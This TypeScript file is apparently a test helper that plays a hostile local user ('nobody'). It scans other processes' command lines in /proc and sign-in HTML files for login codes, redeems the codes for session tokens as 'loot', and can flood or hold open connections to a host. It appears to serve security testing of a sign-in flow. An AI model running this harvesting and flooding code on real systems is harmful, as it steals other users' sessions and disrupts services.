/**
 * A program of another user of this machine (nobody), for tests that root runs. Its parent sends what to do, one
 * message at a time, and gets one answer to each; see `Neighbour` in `neighbour.ts`.
 */
import { readdirSync, readFileSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { text } from "node:stream/consumers";
import { setImmediate as pause } from "node:timers/promises";
import { type Asked, findSignInAddress, type Loot } from "./neighbour.ts";
import { fetchPage } from "./request.ts";

const NOBODY = 65534;
process.setgroups?.([NOBODY]);
process.setgid?.(NOBODY);
process.setuid?.(NOBODY);

const loot: Loot = { passes: 0, codes: [], files: 0, tokens: 0 };
const held: Socket[] = [];
let flooded = 0;
let flooding = 0;

/** Looks through the arguments of all programs for a code, or a file that leads to one, and redeems it. */
async function steal(): Promise<never> {
  for (;;) {
    for (const pid of readdirSync("/proc").filter((name) => /^\d+$/u.test(name))) {
      for (const word of readText(`/proc/${pid}/cmdline`).split("\0")) {
        const file = /\/sign-in\/.*\.html$/u.test(word) ? readText(word) : "";
        if (file !== "") loot.files += 1;
        const found = findSignInAddress(word + file);
        if (found === undefined || loot.codes.includes(found.code)) continue;
        loot.codes.push(found.code);
        const answer = await fetchPage(found.page_url, "/api/session", {
          method: "POST",
          headers: { "content-type": "application/json" },
          body: JSON.stringify({ code: found.code }),
        }).catch(() => undefined);
        if (answer?.ok) loot.tokens += 1;
      }
    }
    loot.passes += 1;
    await pause();
  }
}

function readText(file: string): string {
  try {
    return readFileSync(file, "utf8");
  } catch {
    return "";
  }
}

function openSome(port: number, host: string): void {
  for (let index = 0; index < 60 && flooding < 1_500; index += 1) {
    flooding += 1;
    flooded += 1;
    const socket = connect(port, host);
    socket.on("error", () => {});
    socket.once("close", () => {
      flooding -= 1;
    });
    setTimeout(() => socket.destroy(), 3_000).unref();
  }
}

async function answer(asked: Asked): Promise<unknown> {
  switch (asked.do) {
    case "steal":
      void steal();
      return undefined;
    case "report":
      return loot;
    case "send": {
      const socket = connect(asked.port, asked.host);
      socket.on("error", () => {});
      socket.write(asked.message);
      return text(socket).catch(() => "");
    }
    case "hold":
      for (let index = 0; index < asked.count; index += 1) {
        const socket = connect(asked.port, asked.host);
        socket.on("error", () => {});
        socket.resume();
        held.push(socket);
      }
      return undefined;
    case "hangUp": {
      const socket = connect(asked.port, asked.host);
      socket.on("error", () => {});
      const closed = new Promise((resolve) => socket.once("close", resolve));
      socket.end(asked.message, () => socket.destroy());
      await closed;
      return undefined;
    }
    case "flood":
      setInterval(() => openSome(asked.port, asked.host), 5);
      return undefined;
    case "flooded":
      return flooded;
    case "held":
      return {
        connecting: held.filter(({ connecting }) => connecting).length,
        open: held.filter((socket) => socket.readyState === "open").length,
      };
  }
}

process.on(
  "message",
  (asked: Asked) => void answer(asked).then((value) => process.send?.({ value })),
);
process.on("disconnect", () => process.exit());
